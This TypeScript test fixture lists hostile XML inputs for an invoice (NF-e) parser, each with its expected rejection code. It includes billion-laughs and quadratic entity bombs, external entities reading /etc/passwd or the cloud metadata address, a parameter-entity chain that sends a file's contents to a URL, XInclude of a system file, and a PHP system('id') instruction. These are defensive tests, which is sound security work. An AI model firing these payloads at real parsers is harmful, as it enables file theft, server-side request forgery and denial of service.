import { changed, DECLARATION, note, withDoctype } from './note.ts';
import type { HostileXml } from './xml.ts';

const laughs = (levels: number): string =>
  Array.from(
    { length: levels },
    (_, i) => `<!ENTITY l${i + 1} "${i === 0 ? 'lol' : `&l${i};`.repeat(10)}">`,
  ).join('');

const doctype = (name: string, declaration: string, use?: string): HostileXml => ({
  name,
  make: () => withDoctype(declaration, use),
  right: ['xml_doctype_proibido'],
});

/** What a document type declaration could do, if there might be one. */
export const DECLARATIONS: readonly HostileXml[] = [
  { ...doctype('billion laughs', `<!DOCTYPE nfeProc [${laughs(10)}]>`, '&l10;'), slice: true },
  doctype(
    'quadratic blow-up',
    `<!DOCTYPE nfeProc [<!ENTITY a "${'a'.repeat(100_000)}">]>`,
    '&a;'.repeat(1_000),
  ),
  {
    ...doctype('external entity: file', '<!DOCTYPE n [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'),
    slice: true,
  },
  doctype(
    'external entity: http',
    '<!DOCTYPE n [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]>',
    '&e;',
  ),
  doctype(
    'external entity: public id',
    '<!DOCTYPE n [<!ENTITY e PUBLIC "-//A//B" "http://127.0.0.1/">]>',
    '&e;',
  ),
  doctype('external entity: a device', '<!DOCTYPE n [<!ENTITY e SYSTEM "file:///dev/zero">]>', '&e;'),
  doctype(
    'external entity: php filter',
    '<!DOCTYPE n [<!ENTITY e SYSTEM "php://filter/convert.base64-encode/resource=x">]>',
  ),
  doctype('external entity: jar', '<!DOCTYPE n [<!ENTITY e SYSTEM "jar:http://127.0.0.1/a.zip!/a">]>'),
  doctype('external subset', '<!DOCTYPE nfeProc SYSTEM "http://127.0.0.1/a.dtd">'),
  doctype(
    'external subset: public',
    '<!DOCTYPE nfeProc PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1/a.dtd">',
  ),
  doctype('parameter entity', '<!DOCTYPE n [<!ENTITY % p SYSTEM "http://127.0.0.1/p.dtd"> %p;]>'),
  doctype(
    'parameter entities that carry a file out',
    '<!DOCTYPE n [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1/?%f;\'>">%e;%s;]>',
  ),
  doctype('an entity that names itself', '<!DOCTYPE n [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'),
  doctype('attribute defaults', '<!DOCTYPE n [<!ATTLIST infNFe versao CDATA "4.00">]>'),
  doctype('an unparsed entity', '<!DOCTYPE n [<!NOTATION x SYSTEM "x"><!ENTITY e SYSTEM "a.gif" NDATA x>]>'),
  { ...doctype('DTD in small letters', '<!doctype nfeProc>'), right: ['xml_malformado'] },
  doctype('empty DTD', '<!DOCTYPE nfeProc []>'),
  doctype(
    'DTD behind comments and instructions',
    '<!-- a --><?a b?><!DOCTYPE nfeProc [<!ENTITY a "b">]>',
    '&a;',
  ),
  doctype('DTD that does not end', '<!DOCTYPE nfeProc [<!ENTITY a "'),
  {
    name: 'DTD within the root',
    make: () => changed('<NFe>', '<!DOCTYPE a [<!ENTITY b "c">]><NFe>'),
    right: ['xml_doctype_proibido', 'xml_malformado'],
  },
  {
    name: 'an entity that nobody declared',
    make: () => changed(/<xProd>/, '<xProd>&nada;'),
    right: ['xml_malformado'],
  },
  {
    name: 'XInclude of a file',
    make: () =>
      changed(
        '<transp>',
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><transp>',
      ),
    right: ['processado'],
    slice: true,
  },
  {
    name: 'XInclude in place of the root',
    make: () => `${DECLARATION}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="nota.xml"/>`,
    right: ['xml_sem_nfe'],
  },
  {
    name: 'a style sheet that wants to be fetched',
    make: () =>
      note().replace(
        DECLARATION,
        `${DECLARATION}<?xml-stylesheet type="text/xsl" href="http://127.0.0.1/a.xsl"?>`,
      ),
    right: ['processado'],
  },
  {
    name: 'an instruction that is code',
    make: () => note().replace(DECLARATION, `${DECLARATION}<?php system('id'); ?>`),
    right: ['processado'],
  },
  {
    name: 'a schema location that wants to be fetched',
    make: () =>
      changed(
        '<NFe>',
        '<NFe xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a http://127.0.0.1/a.xsd">',
      ),
    right: ['processado'],
  },
  {
    name: 'XML 1.1',
    make: () => note().replace('version="1.0"', 'version="1.1"'),
    right: ['processado', 'xml_malformado'],
  },
  {
    name: 'XML 9.9',
    make: () => note().replace('version="1.0"', 'version="9.9"'),
    right: ['xml_malformado', 'processado'],
  },
];
